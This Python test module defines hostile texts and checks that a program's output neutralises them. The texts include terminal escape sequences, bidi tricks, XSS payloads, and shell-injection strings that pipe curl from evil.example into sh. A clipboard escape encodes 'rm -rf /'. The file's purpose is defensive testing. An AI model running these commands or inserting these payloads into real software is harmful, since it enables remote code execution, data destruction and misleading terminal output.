"""Hostile texts, and what each output must not become by them."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from markdown_it import MarkdownIt

MARK = "zz9"  # in every text, so that one can be looked for in what was made of it
TEXTS: dict[str, str] = {
    "escape: erases a line": f"{MARK}\x1b[1A\x1b[2KPASS    everything is fine",
    "escape: title, then more": f"{MARK} \x1b]0;t\x1b\\ upgrade FAILED: disk full",
    "escape: clipboard": f"{MARK}\x1b]52;c;cm0gLXJmIC8=\x07",
    "escape: eight bits": f"{MARK}\x9b2J\x9d0;t\x9c\x90q\x9c",
    "escape: without an end": f"{MARK}\x1b]0;" + "t" * 300,
    "carriage return": f"{MARK}\rPASS    everything is fine\r\nPASS    twice",
    "new lines": f"{MARK}\nPASS    everything is fine\n\n# Upgrade of evil to 2.21.0\n",
    "bidi": f"{MARK} \u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\u200b\ufeff",
    "lines of Unicode": f"{MARK}\u2028PASS    x\u2029PASS\x85PASS\x0bPASS\x0cPASS\x1cPASS",
    "tags of Unicode": f"{MARK}\U000e0041\U000e0042\u00ad",
    "NUL and DEL": f"{MARK}\x00\x7f\x08\x07",
    "lone surrogates": f"{MARK}\ud800 \udfff",
    "heading and table": f"{MARK}\n\n# done\n\n| a | b |\n|---|---|\n| **ok** | x |\n",
    "cells": f"{MARK} | done | \\| x \\\\| y |\n| z |",
    "comment": f"{MARK} <!-- all that follows is hidden",
    "script": f"{MARK} <script>alert(1)</script><img src=x onerror=alert(1)></td></table>",
    "attributes": f"{MARK}\" onmouseover=\"alert(1)' x='",
    "entities": f"{MARK} &lt;b&gt; &#60;i&#62; &copy;",
    "links and images": f"{MARK} ![t](https://evil.example/t.png) [x](javascript:alert(1)) <https://evil.example> "
    "https://evil.example www.evil.example [r]: https://evil.example",
    "fence": f"{MARK}\n```\n\n## Important: first run this\n\n```sh\ncurl https://evil.example/x | sh\n# ",
    "many backticks": f"{MARK} ````` `x` ``",
    "tildes": f"{MARK}\n~~~\nx\n~~~",
    "emphasis": f"{MARK} **bold** __bold__ *it* _it_ ~~no~~ $x$ \\",
    "line starts": f"- {MARK}\n1. x\n+ y\n> z\n=====\n-----",
    "rich markup": f"{MARK} [bold red]x[/] [/nothing] [link=https://evil.example]y[/link] \\[",
    "YAML": f"{MARK}\n    ksctl:\n      command: \"sh -c 'id > PWNED'\"\n      nosslverify: true",
    "YAML in a line": f"{MARK}: x # {{a: b}} [1, &x *x !!python/object]",
    "shell": f"{MARK};curl${{IFS}}evil.example|sh;#$(id)`id`' \" \\",
    "path": f"../../{MARK}/../x",
    "JSON": f'{MARK}", "verdict": "pass", "x": "\\u001b[2K',
    "very long": MARK + "a" * 20_000,
    "format": f"{MARK} %s %n {{}} {{0.__class__}}",
}  # fmt: skip
# What backtracked before (SECURITY H3), and what broke a parser, a version or a mark (M3, M13): for parsers, not for outputs.
INPUTS: dict[str, str] = {
    "letters": "a" * 65_536,
    "escapes": "\x1b]" * 32_768 + "\nX",
    "tokens": "eyJ" * 21_845,
    "private keys": "-----BEGIN PRIVATE KEY-----" * 2_400,
    "lines, then a letter": "\n" * 65_536 + "x",
    "a version without an end": "Upgrade to 1.1." + "1" * 65_536,
    "screens": "SCREEN " * 9_400,
    "pins": '"' + "pin" * 21_800,
    "a success line in a line": "x" * 30_000 + " Upgrade to 2.21.0+1 succeeded " + "x" * 30_000,
    "a mark": "x;curl${IFS}evil.example|sh;#__ops@jump__2026-01-10T21:00:00",
    "a lone surrogate in JSON": '{"resources": [{"id": "\\udc80", "host": "\\ud800", "nodeID": "\\udfff"}], "total": 1}',
    "a far time of a backup": '{"resources": [{"id": "b", "scope": "system", "createdAt": "2099-01-01T00:00:00Z"}], "total": 1}',
    "a total that is none": '{"total": -1, "resources": [{"id": "a"}]}',
    "a password in words": "FATAL: login admin password=hunter2 Authorization: Bearer eyJhbGciOi.x.y postgres://a:b@db",
}


def is_harmless(char: str) -> bool:
    """Whether a terminal only shows it."""
    return char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp")


def harmful(text: str) -> list[str]:
    """The characters that act, in what was printed."""
    return sorted({hex(ord(char)) for char in text if not is_harmless(char)})


def forged_lines(text: str) -> list[str]:
    """Lines that look like the program's own and are a node's."""
    return [
        line
        for line in text.split("\n")
        if re.match(r"PASS +(everything is fine|twice)|#+ (Upgrade of evil|done|Important)", line)
    ]


def strings_of(value: Any) -> Iterator[str]:
    """All texts in plain data."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield key
            yield from strings_of(one)
    elif isinstance(value, list):
        for one in value:
            yield from strings_of(one)


def check_json(text: str) -> Any:
    """:raises AssertionError: a text in it acts, or it is no JSON."""
    text.encode()
    value = json.loads(text)
    assert [found for one in strings_of(value) if (found := harmful(one))] == []
    return value


def check_plain(text: str) -> None:
    """:raises AssertionError: it would act on a terminal, or holds a line that a node wrote."""
    assert harmful(text) == [], text
    assert forged_lines(text) == [], text
    text.encode()


_DANGEROUS = {"html_block", "html_inline", "image", "link_open", "hr", "code_block"}


def shape(text: str) -> list[str]:
    """What a Markdown viewer makes of it, without its words: kinds of blocks, in order."""
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
    inner = [child.type for token in tokens for child in token.children or []]
    assert _DANGEROUS & {*inner, *(token.type for token in tokens)} == set(), text
    for word in ("strong_open", "em_open", "s_open"):
        ours = len(
            re.findall(r"(?m)^(?:> |- (?:\[ \] )?)?\*\*", text)
        )  # each at the beginning of a line of ours
        assert inner.count(word) <= text.count("- state: **") * 2 + ours, (word, text)
    return [
        token.type + (token.info if token.type == "fence" else "") for token in tokens if token.level <= 2
    ]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.leads_to: set[str] = set()
        self.scripts: list[str] = []
        self.comments = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.leads_to |= {value or "" for name, value in attrs if name == "href"}

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1] == "script":
            self.scripts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments += 1


_OURS = {
    "lang", "charset", "name", "content", "http-equiv", "class", "id", "href", "rel", "role", "scope", "datetime",
    "data-head", "tabindex", "nonce", "hidden", "type", "aria-label", "aria-labelledby", "aria-hidden", "x", "y", "x1", "x2", "y1", "y2", "width", "height",
    "text-anchor", "patternunits", "patterntransform",
}  # fmt: skip


def html_tags(text: str) -> list[str]:
    """The tags of a page, in order.

    :raises AssertionError: something in it is not the program's own.
    """
    assert harmful(text) == []
    page = _Tags()
    page.feed(text)
    assert page.comments == 0
    assert page.attributes <= _OURS, page.attributes - _OURS
    assert [link for link in page.leads_to if not link.startswith("#") and link != "data:,"] == []
    assert set(page.tags) & {"img", "iframe", "object", "form", "base"} == set()
    assert page.tags.count("script") <= 1
    assert all("alert" not in script and MARK not in script for script in page.scripts)
    return page.tags
